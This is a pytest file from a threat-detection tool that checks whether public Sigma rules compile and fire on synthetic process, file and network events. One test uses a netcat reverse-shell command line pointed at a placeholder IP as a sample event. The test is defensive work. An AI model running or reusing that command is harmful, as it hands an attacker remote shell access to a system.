"""Public Sigma rules, where a copy lies beside the checkout: they all compile, and fire on what they describe."""

from __future__ import annotations

import os
import random
from pathlib import Path

import pytest

from nbsentinel.detect.rules.compile import compile_paths
from nbsentinel.detect.rules.matcher import Matcher
from nbsentinel.detect.rules.pack import Pack, load_pack
from support.described import described

DATA = Path(os.environ.get("NBSENTINEL_SIGMA_DATA") or Path(__file__).parents[4] / "shared" / "data")
FOLDERS = [folder for folder in (DATA / "sigma-linux", DATA / "sigma-aws") if folder.is_dir()]
WHO = {"Image", "CommandLine", "User", "ProcessId"}
FIELDS = {
    "process_creation": {*WHO, "CurrentDirectory", "LogonId", "ParentImage", "ParentCommandLine", "ParentProcessId"},
    "file_event": {*WHO, "TargetFilename"},
    "network_connection": {*WHO, "Protocol", "Initiated", "SourceIp", "SourcePort"}
    | {"DestinationIp", "DestinationPort", "DestinationHostname"},
}
"""What our sensors fill."""


@pytest.mark.parametrize("folder", FOLDERS, ids=lambda folder: folder.name)
def test_public_rules_compile(folder: Path) -> None:
    """Every rule compiles, and the pack survives being written and read."""
    compiled = compile_paths([folder])
    assert compiled.failed == ()
    assert load_pack(compiled.pack()).rules


@pytest.mark.parametrize("folder", FOLDERS[:1], ids=lambda folder: folder.name)
def test_public_process_rules_fire(folder: Path) -> None:
    """A classic command line meets the rules that were written for it."""
    compiled = compile_paths([folder / "process_creation"])
    matcher = Matcher(Pack(compiled.rules, ""))
    event = {"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 192.0.2.1 4444", "ParentImage": "/bin/bash"}
    assert matcher.match("process_creation", event)


@pytest.mark.parametrize("category", FIELDS)
@pytest.mark.parametrize("folder", FOLDERS[:1], ids=lambda folder: folder.name)
def test_every_public_rule_fires_on_our_fields(folder: Path, category: str) -> None:
    """Each rule on processes, files and connections needs only fields that we fill, and such an event meets it."""
    compiled = compile_paths([folder / category])
    matcher = Matcher(Pack(compiled.rules, ""))
    silent = []
    for rule in compiled.rules:
        chance = random.Random(1)
        events = [described(rule, chance) for _ in range(100)]
        assert set().union(*events) <= FIELDS[category], rule.title
        if not any(rule in matcher.match(category, event) for event in events):
            silent.append(rule.title)
    assert silent == []
